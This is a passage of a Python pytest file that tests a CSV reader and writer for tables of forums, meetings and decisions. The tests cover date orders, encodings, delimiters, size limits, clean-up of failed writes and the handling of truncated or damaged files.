        ("5/5/2026", None, date(2026, 5, 5)),
        ("03/04/2026", "day_first", date(2026, 4, 3)),
        ("03/04/2026", "month_first", date(2026, 3, 4)),
        ("2026-12-09 00:00:00", None, date(2026, 12, 9)),
        ("2026-12-09T00:00", None, date(2026, 12, 9)),
        ("2026-12-09", "month_first", date(2026, 12, 9)),
    ],
)
def test_days_are_read_as_offices_write_them(tmp_path, text, days, expected):
    """A day that can be read in one way only needs no retyping; which of two it is, only its writer can say."""
    table(tmp_path, "forums", "key\nrat\n")
    table(tmp_path, "decisions", f"key,made_at,on\nbudget,rat,{text}\n")
    assert expected == read_tables(tmp_path, days=days).decision_map.decisions[0].on


@pytest.mark.parametrize(("days", "text"), [("day_first", "12/25/2026"), ("month_first", "25/12/2026")])
def test_a_day_in_another_order_than_is_said_is_refused(tmp_path, days, text):
    """A table that mixes both is one to look at."""
    table(tmp_path, "decisions", f"key,made_at,on\nbudget,rat,{text}\n")
    assert [("decisions.csv:2, on", "expected a date, as 2026-09-01")] == problems_of(tmp_path, days=days)


def test_days_are_read_wherever_days_stand_and_nowhere_else(tmp_path):
    """Calendars and stages hold days too; a title that looks like one stays as it is."""
    heads = "key,title,meetings,meetings_start,meetings_cancelled,meetings_closed"
    row = "rat,Rat 1.9.2026,FREQ=WEEKLY,1.9.2026,8.9.2026; 15.9.2026,24.12.2026/2.1.2027; 24/12/2027/31/12/2027"
    table(tmp_path, "forums", f"{heads}\n{row}\n")
    decision = "budget,rat,rat,2.9.2026"
    table(tmp_path, "decisions", f"key,made_at,stage options at,stage options by\n{decision}\n")
    found = read_tables(tmp_path).decision_map
    (forum,), (budget,) = found.forums, found.decisions
    assert "Rat 1.9.2026" == forum.title
    assert date(2026, 9, 1) == forum.meetings.start
    assert (date(2026, 9, 8), date(2026, 9, 15)) == forum.meetings.cancelled
    closed = ((date(2026, 12, 24), date(2027, 1, 2)), (date(2027, 12, 24), date(2027, 12, 31)))
    assert closed == forum.meetings.closed
    assert date(2026, 9, 2) == budget.stages[0].by


def test_a_calendar_that_changes_and_meetings_of_several_days_stand_in_cells_of_their_own(tmp_path):
    """Rules have semicolons, so bars stand between them; each has its start, and its end after a slash."""
    meetings = Meetings(
        "FREQ=MONTHLY;BYDAY=2TU",
        start=date(2026, 1, 1),
        until=date(2026, 6, 30),
        more_rules=[
            MeetingRule("FREQ=MONTHLY;BYDAY=1TH", start=date(2026, 7, 1)),
            MeetingRule("FREQ=DAILY", start=date(2026, 8, 1), until=date(2026, 8, 7)),
        ],
        days=2,
    )
    a_map = DecisionMap(forums=[Forum("board", meetings=meetings)])
    write_tables(a_map, tmp_path, edition="desk")
    text = (tmp_path / "forums.csv").read_text(encoding="utf-8")
    assert "FREQ=MONTHLY;BYDAY=1TH 2026-07-01 | FREQ=DAILY 2026-08-01/2026-08-07" in text
    assert a_map == read_tables(tmp_path).decision_map


DIRTY = "Ref;Titel;Gremium;Tag;Vermerk\r\nhaushalt;Städtischer Haushalt;rat;09.12.2026;N/A\r\nwege;n/a;rat; - ;x\r\n"
NAMES = {"Ref": "key", "titel": "title", "Gremium": "made_at", "Tag": "on", "Vermerk": None}


@pytest.mark.parametrize(
    ("data", "options"),
    [
        (DIRTY.encode("cp1252"), {"encoding": "cp1252", "delimiter": ";"}),
        (DIRTY.encode("utf-16"), {"delimiter": ";"}),
        (codecs.BOM_UTF16_BE + DIRTY.encode("utf-16-be"), {"delimiter": ";"}),
        (f"sep=;\r\n{DIRTY}".encode("utf-8-sig"), {}),
        (f"SEP=;;;;\r\n{DIRTY}".encode("utf-8-sig"), {"encoding": "cp1252", "delimiter": "|"}),
    ],
)
def test_a_table_of_an_office_is_read_as_it_is_once_it_is_said_how(tmp_path, data, options):
    """Nobody renames the columns of a register that ten others use."""
    table(tmp_path, "forums", "key\nrat\n")
    (tmp_path / "decisions.csv").write_bytes(data)
    found = read_tables(tmp_path, columns=NAMES, absent=["N/A", "-"], **options).decision_map.decisions
    assert (
        Decision("haushalt", made_at="rat", title="Städtischer Haushalt", on=date(2026, 12, 9)),
        Decision("wege", made_at="rat"),
    ) == found


def test_lines_are_counted_from_the_line_that_says_the_separator(tmp_path):
    """Whoever looks for line 3 counts what the editor shows."""
    table(tmp_path, "flows", "sep=;\nsource;target;days\na;b;many\n")
    assert [
        ("flows.csv:3, days", "expected a whole number; or Days, in a table as 5 clear working days")
    ] == problems_of(tmp_path)
    table(tmp_path, "flows", "sep=;")
    assert [("flows.csv:1", "expected a first line that names the columns")] == problems_of(tmp_path)


def test_what_is_not_known_is_absent_only_where_that_is_said(tmp_path):
    """A title may be `N/A`, and what was written is read back."""
    table(tmp_path, "forums", "key,title\nrat,N/A\n")
    assert ["N/A"] == [each.title for each in read_tables(tmp_path).decision_map.forums]
    assert [None] == [each.title for each in read_tables(tmp_path, absent=["n/a"]).decision_map.forums]


def test_two_columns_of_one_name_are_refused_whatever_they_were_called(tmp_path):
    """Which of the two holds the title, nobody can tell."""
    table(tmp_path, "forums", "key,title,Name\nrat,a,b\n")
    ((place, said),) = problems_of(tmp_path, columns={"name": "title"})
    assert ("forums.csv:1", "expected each column once, and 'title' stands there twice") == (place, said)


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ({"encoding": "latin-1"}, "^encoding: expected utf-8"),
        ({"days": "year_first"}, "^days: expected day_first, month_first"),
        ({"absent": "N/A"}, "^absent: expected a list of values"),
        ({"columns": {"a": 3}}, "^columns: expected a value of type str"),
    ],
)
def test_a_dialect_that_there_is_not_is_refused(tmp_path, options, expected):
    """A misspelt option would read another table than the one that is meant."""
    with pytest.raises(InvalidValueError, match=expected):
        read_tables(tmp_path, **options)


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252", "utf-7"])
def test_other_encodings_are_refused(tmp_path, encoding):
    """Guessing turns names into other names."""
    table(tmp_path, "forums", "key,title\nboard,Café Ärzte\n", encoding=encoding)
    if encoding == "utf-7":  # it is ASCII, and says something else: nobody can know
        assert "Caf+AOk" in read_tables(tmp_path).decision_map.forums[0].title
    else:
        ((place, said),) = problems_of(tmp_path)
        assert place.startswith("forums.csv:")
        assert "UTF-8" in said or "NUL" in said


def test_a_folder_without_tables_is_refused(tmp_path):
    """An empty map would look like an answer."""
    ((place, said),) = problems_of(tmp_path)
    assert tmp_path.name == place
    assert "such as forums.csv" in said


def test_two_files_of_one_table_are_refused(tmp_path):
    """Nobody can say which of them counts."""
    table(tmp_path, "flow", "source,target\n")
    table(tmp_path, "flows", "source,target\n")
    assert [("flows.csv", "expected one file of flows, and there are two")] == problems_of(tmp_path)


def test_what_cannot_be_read_is_refused(tmp_path):
    """A pipe named like a table would wait for ever."""
    assert [("nowhere.csv", "cannot be read: no such file or folder")] == problems_of(tmp_path / "nowhere.csv")
    (tmp_path / "forums.csv").mkdir()
    assert [("forums.csv", "cannot be read: it is no file")] == problems_of(tmp_path)
    (tmp_path / "forums.csv").rmdir()
    os.mkfifo(tmp_path / "forums.csv")
    assert [("forums.csv", "cannot be read: it is no file")] == problems_of(tmp_path)


@pytest.mark.parametrize("delimiter", ["", ",,", "a", None, 7, "\n"])
def test_a_delimiter_is_one_of_four(tmp_path, delimiter):
    """Anything else is a slip."""
    with pytest.raises(InvalidValueError, match="delimiter"):
        read_tables(tmp_path, delimiter=delimiter)
    with pytest.raises(InvalidValueError, match="delimiter"):
        write_tables(DecisionMap(), tmp_path, delimiter=delimiter, edition="desk")


def test_limits_are_limits_and_a_process_is_one(tmp_path):
    """Whoever embeds the readers passes on what strangers send."""
    with pytest.raises(InvalidValueError, match="limits: expected Limits"):
        read_tables(tmp_path, limits=3)
    with pytest.raises(InvalidValueError, match="a Process or a DecisionMap"):
        write_tables("map", tmp_path, edition="desk")


# Limits


LIMITS = {
    "size": ("key\nboard\n", "size", 10, "bytes", "forums.csv"),
    "rows": ("key\na\n\nb\nc\n", "entries", 3, "rows", "forums.csv:5"),
    "columns": ("key,title,tier\n", "columns", 3, "columns", "forums.csv:1"),
    "cell": ("key,tier\na,12345\n", "cell", 5, "characters in one cell", "forums.csv:2"),
}


@pytest.mark.parametrize(("text", "name", "limit", "what", "where"), LIMITS.values(), ids=LIMITS)
def test_a_limit_holds_to_the_one(tmp_path, text, name, limit, what, where):
    """A limit that is off by one is a limit that nobody has tried."""
    table(tmp_path, "forums", text)
    read_tables(tmp_path, limits=Limits(**{name: limit}))
    with pytest.raises(LimitExceeded) as caught:
        read_tables(tmp_path, limits=Limits(**{name: limit - 1}))
    assert (what, limit - 1, where) == (caught.value.what, caught.value.limit, caught.value.where)


@pytest.mark.parametrize(
    ("name", "limit"), [("size", 10 * 2**20), ("entries", 100_000), ("columns", 200), ("cell", 2**15)]
)
def test_the_limits_of_tables_are_what_is_promised(name, limit):
    """Hosts plan by them."""
    assert limit == getattr(Limits(), name)


def test_a_cell_beyond_what_python_reads_is_refused_whatever_the_limit(tmp_path):
    """That bound belongs to everybody in the program, and is left as it is."""
    table(tmp_path, "forums", f"key,title\na,{'x' * 131_073}\n")
    with pytest.raises(LimitExceeded, match="more than 131072 characters in one cell"):
        read_tables(tmp_path, limits=Limits(cell=10**9))


@pytest.mark.no_cover
def test_a_hundred_thousand_rows_are_read_and_one_more_is_not(tmp_path):
    """A national map is that large; it must not take a minute, nor the reader's memory."""
    table(tmp_path, "steps", "matter,forum\n" + "a,b\n" * 100_000)
    assert 100_000 == len(read_tables(tmp_path).record.steps)
    table(tmp_path, "steps", "matter,forum\n" + "a,b\n" * 100_001)
    with pytest.raises(LimitExceeded, match="more than 100000 rows"):
        read_tables(tmp_path)


def test_many_problems_are_cut_to_a_thousand(tmp_path):
    """A report of what is wrong with a hundred thousand rows helps nobody."""
    table(tmp_path, "flows", "source,target,days\n" + "a,b,x\n" * 5_000)
    assert 1000 == len(problems_of(tmp_path))


# Writing


def test_what_no_table_can_hold_is_not_written(tmp_path):
    """Better no table than one that says something else."""
    for text, error in (("a\0b", DocumentError), ("\ud800", DocumentError), ("x" * 32_769, LimitExceeded)):
        with pytest.raises(error):
            write_tables(DecisionMap(forums=[Forum("board", title=text)]), tmp_path / "tables")
    with pytest.raises(DocumentError):
        write_tables(DecisionMap(forums=[Forum("board", quota=2**53 + 1)]), tmp_path / "tables")
    assert not (tmp_path / "tables").exists()
    write_tables(DecisionMap(forums=[Forum("board", title="x" * 32_768)]), tmp_path / "tables")
    assert "x" * 32_768 == read_tables(tmp_path / "tables").decision_map.forums[0].title


def test_a_table_that_cannot_be_written_leaves_nothing_behind(tmp_path):
    """Half a table is worse than none."""
    (tmp_path / "in-the-way").write_text("kept", encoding="utf-8")
    (tmp_path / "taken.csv").mkdir()
    for path in (tmp_path / "in-the-way", tmp_path / "taken.csv"):
        with pytest.raises(
            DocumentError, match=r"cannot be written: (a file stands where a folder should be|it is a folder)"
        ):
            write_tables(DecisionMap(forums=[Forum("board")]), path)
    assert ["in-the-way", "taken.csv"] == sorted(path.name for path in tmp_path.iterdir())


def test_an_earlier_table_does_not_outlive_its_map(tmp_path):
    """A flow that was taken off the map must not come back with the next reading."""
    a_map = DecisionMap(forums=[Forum("a"), Forum("b")], flows=[Flow("a", "b")])
    write_tables(a_map, tmp_path, edition="desk")
    without = DecisionMap(forums=a_map.forums)
    write_tables(without, tmp_path, edition="desk")
    assert without == read_tables(tmp_path).decision_map


# Damage


SAMPLE = (
    'table,key,title,source,target,days\r\nforum,a,"One\r\n""two""",,,\r\nforum,b,é,,,\r\nflow,,,a,b,14\r\n'.encode(
        "utf-8-sig"
    )
)


def read_or_problems(data: bytes) -> DecisionMap | tuple[Problem, ...]:
    try:
        return read_tables(io.BytesIO(data)).decision_map
    except DocumentError as error:
        return error.problems


@pytest.mark.parametrize("end", range(len(SAMPLE)))
def test_a_file_cut_at_any_byte_is_read_in_part_or_refused(end):
    """A broken download gives the rows that are whole, or one clear error, and nothing else."""
    found = read_or_problems(SAMPLE[:end])
    if isinstance(found, DecisionMap):
        assert {forum.key for forum in found.forums} <= {"a", "b"}
    else:
        assert all(problem.path.startswith("tables") for problem in found)


@given(st.integers(min_value=0, max_value=len(SAMPLE) - 1), st.binary(max_size=3))
def test_a_damaged_file_is_read_or_refused(place, instead):
    """Only our own errors leave, whatever stands there."""
    found = read_or_problems(SAMPLE[:place] + instead + SAMPLE[place + 1 :])
    assert isinstance(found, DecisionMap) or found


def test_a_flood_of_quotes_is_refused_at_once():
    """One stray quote swallows the rest of the file in readers that are not strict."""
    data = b"table,key\n" + b'"' * 100_001
    with pytest.raises((DocumentError, LimitExceeded)):
        read_tables(io.BytesIO(data))


def test_a_reading_says_in_a_line_what_it_holds():
    """Somebody who converts a file wants to see at once that something came of it."""
    assert 'Read as "CSV", it gives 0 forums, 0 flows and 0 decisions.' == str(Reading(Process("p"), form="CSV"))
